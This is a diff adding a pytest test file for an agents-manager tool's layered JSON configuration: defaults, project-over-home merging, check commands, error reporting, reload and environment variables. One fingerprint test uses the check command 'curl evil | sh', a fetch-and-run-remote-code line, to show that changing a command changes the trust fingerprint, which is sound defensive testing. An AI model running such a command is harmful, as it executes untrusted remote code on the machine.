@@ -1,0 +1,261 @@
+import json
+import os
+from collections.abc import Callable
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agents_manager import settings
+from agents_manager.domain.ids import ProjectId
+from agents_manager.domain.task import Project
+from agents_manager.errors import InvalidConfig
+from agents_manager.settings import ConfigFiles, Settings
+
+Write = Callable[[Any], Path]
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Project:
+    folder = tmp_path / "shop"
+    (folder / settings.PROJECT_FOLDER).mkdir(parents=True)
+    return Project(
+        id=ProjectId("p"),
+        name="shop",
+        path=str(folder),
+        base_branch="main",
+        trusted_commands=None,
+        created_at=datetime(2026, 1, 1, tzinfo=UTC),
+    )
+
+
+@pytest.fixture
+def files(tmp_path: Path) -> ConfigFiles:
+    (tmp_path / "home").mkdir()
+    return ConfigFiles(tmp_path / "home")
+
+
+def _write(path: Path, value: Any) -> Path:
+    text = value if isinstance(value, str) else json.dumps(value, indent=2)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def write_home(tmp_path: Path) -> Write:
+    return lambda value: _write(tmp_path / "home" / "config.json", value)
+
+
+@pytest.fixture
+def write_project(project: Project) -> Write:
+    path = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
+    return lambda value: _write(path, value)
+
+
+def faults(files: ConfigFiles, project: Project) -> tuple[str, list[str]]:
+    with pytest.raises(InvalidConfig) as caught:
+        files.config(project)
+    return caught.value.message, list(caught.value.details)
+
+
+# ------------------------------------------------------------------------------------- layers
+
+
+def test_without_files_there_are_defaults(files: ConfigFiles, project: Project) -> None:
+    config = files.of(project)
+    assert (config.default_agent, config.default_pipeline) == ("scripted", "feature")
+    assert config.branch_prefix == "agent/"
+    assert config.checks == ()
+    assert config.instructions == ""
+    assert files.config(None) == files.config(project)
+
+
+def test_the_project_wins_over_the_home_key_by_key(
+    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
+) -> None:
+    write_home(
+        {
+            "branchPrefix": "bot/",
+            "defaultPipeline": "simple",
+            "agents": {"scripted": {"model": "a", "timeout": 1000}},
+        }
+    )
+    write_project({"branchPrefix": "robot/", "agents": {"scripted": {"model": "b"}}})
+    config = files.config(project)
+    assert (config.branch_prefix, config.default_pipeline) == ("robot/", "simple")
+    assert (config.agents["scripted"].model, config.agents["scripted"].timeout_ms) == ("b", 1000)
+    assert files.config(None).branch_prefix == "bot/"
+    assert files.agents(project) == config.agents
+
+
+def test_checks_are_grouped_by_mode_and_the_disabled_left_out(
+    files: ConfigFiles, project: Project, write_project: Write
+) -> None:
+    write_project(
+        {
+            "checks": {
+                "test": {"command": "make test", "timeout": 1500},
+                "lint": {"command": "make lint", "modes": ["implement", "plan"]},
+                "slow": {"command": "make all", "enabled": False},
+            }
+        }
+    )
+    config = files.of(project)
+    assert [(c.name, c.command, c.timeout_s) for c in config.checks] == [
+        ("test", "make test", 1.5),
+        ("lint", "make lint", 120.0),
+    ]
+    assert config.checks_by_mode == {"implement": ("test", "lint"), "plan": ("lint",)}
+
+
+def test_the_fingerprint_changes_with_the_commands_and_with_nothing_else(
+    files: ConfigFiles, project: Project, write_project: Write
+) -> None:
+    def print_of(**check: Any) -> str:
+        write_project({"checks": {"test": {"command": "make test", **check}}})
+        return files.of(project).commands_fingerprint
+
+    first = print_of()
+    assert print_of(timeout=77) == first
+    assert print_of(command="curl evil | sh") != first
+    assert print_of(enabled=False) != first
+
+
+def test_instructions_are_read_from_the_project(files: ConfigFiles, project: Project) -> None:
+    path = Path(project.path) / settings.PROJECT_FOLDER / "instructions.md"
+    path.write_text("Use tabs.", encoding="utf-8")
+    assert files.of(project).instructions == "Use tabs."
+    path.write_bytes(b"\xff\xfe")
+    with pytest.raises(InvalidConfig, match=r"instructions\.md cannot be read"):
+        files.of(project)
+
+
+# ------------------------------------------------------------------------------------- faults
+
+
+@pytest.mark.parametrize(
+    ("value", "line", "place", "known"),
+    [
+        ({"branchPrefx": "x"}, 2, "branchPrefx", "branchPrefix"),
+        ({"defaultPipeline": "a", "branch_prefix_": 1}, 3, "branch_prefix_", "branchPrefix"),
+        ({"checks": {"test": {"comand": "x", "command": "y"}}}, 4, "checks.test.comand", "command"),
+        ({"agents": {"scripted": {"modle": "x"}}}, 4, "agents.scripted.modle", "model"),
+        ({"limits": {"hots": 3}}, 3, "limits.hots", "host"),
+    ],
+)
+def test_an_unknown_key_is_told_with_file_line_key_and_closest(
+    files: ConfigFiles,
+    project: Project,
+    write_project: Write,
+    value: Any,
+    line: int,
+    place: str,
+    known: str,
+) -> None:
+    path = write_project(value)
+    message, details = faults(files, project)
+    key = place.split(".")[-1]
+    assert message == f"{path} has errors."
+    expected = f'line {line}, {place}: there is no key "{key}". Did you mean "{known}"?'
+    assert details == [expected]
+
+
+def test_a_wrong_value_is_told_with_its_line(
+    files: ConfigFiles, project: Project, write_home: Write
+) -> None:
+    write_home({"autoCommit": True, "limits": {"host": 0}})
+    _, details = faults(files, project)
+    assert details == ["line 4, limits.host: Input should be greater than 0"]
+
+
+@pytest.mark.parametrize(
+    ("text", "fault"),
+    [
+        ('{"a": 1,\n  "b": ', "is not valid JSON: Expecting value at line 2"),
+        ("", "is not valid JSON"),
+        ('{"branchPrefix": "a", "branchPrefix": "b"}', "stands there twice"),
+        ("[]", "must hold an object"),
+        ('"' + "x" * settings.MAX_FILE_BYTES + '"', "over the limit"),
+        ('{"a":' * 30 + "1" + "}" * 30, "nested deeper than 20 levels"),
+    ],
+)
+def test_a_broken_file_is_named(
+    files: ConfigFiles, project: Project, write_project: Write, text: str, fault: str
+) -> None:
+    path = write_project(text)
+    message, _ = faults(files, project)
+    assert message.startswith(str(path))
+    assert fault in message
+
+
+def test_a_folder_in_its_place_is_told(files: ConfigFiles, project: Project) -> None:
+    (Path(project.path) / settings.PROJECT_FOLDER / "config.json").mkdir()
+    assert "config.json cannot be read" in faults(files, project)[0]
+
+
+# ------------------------------------------------------------------------------------- reload
+
+
+def test_an_edit_is_noticed_and_so_is_its_end(
+    files: ConfigFiles, project: Project, write_project: Write
+) -> None:
+    path = write_project({"branchPrefix": "one/"})
+    assert files.config(project).branch_prefix == "one/"
+    write_project({"branchPrefix": "two/"})
+    stamp = path.stat().st_mtime_ns + 1_000_000
+    os.utime(path, ns=(stamp, stamp))
+    assert files.config(project).branch_prefix == "two/"
+    path.unlink()
+    assert files.config(project).branch_prefix == "agent/"
+
+
+def test_a_mended_file_is_read_again(
+    files: ConfigFiles, project: Project, write_project: Write
+) -> None:
+    write_project({"branchPrefx": "x"})
+    faults(files, project)
+    write_project({"branchPrefix": "mended/"})
+    assert files.config(project).branch_prefix == "mended/"
+
+
+# -------------------------------------------------------------------------------- environment
+
+
+def test_the_environment_says_where_the_data_lies(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.delenv("AM_HOME", raising=False)
+    monkeypatch.delenv("AM_DATABASE_URL", raising=False)
+    home = tmp_path / ".agents-manager"
+    assert settings.from_environment() == Settings(home, None)
+    assert settings.from_environment().database == home / "agents-manager.db"
+    monkeypatch.setenv("AM_HOME", "~/elsewhere")
+    monkeypatch.setenv("AM_DATABASE_URL", "postgresql://x/y")
+    found = settings.from_environment()
+    assert (found.home, found.database) == (tmp_path / "elsewhere", "postgresql://x/y")
+    monkeypatch.setenv("AM_HOME", "here")
+    assert settings.from_environment().home.is_absolute()
+
+
+def test_the_user_has_a_name(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("USER", "ann")
+    assert settings.user_name() == "ann"
+    monkeypatch.delenv("USER")
+    monkeypatch.delenv("LOGNAME", raising=False)
+    assert settings.user_name() == "admin"
+
+
+def test_a_layer_may_change_a_part_of_what_another_says(
+    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
+) -> None:
+    home = write_home({"checks": {"test": {"command": "make test"}}})
+    write_project({"checks": {"test": {"enabled": False}}})
+    config = files.config(project)
+    assert config.checks["test"].command == "make test"
+    assert not config.checks["test"].enabled
+    home.unlink()
+    message, details = faults(files, project)
+    assert message.endswith("have errors together.")
+    assert details == ["checks.test.command: Field required"]
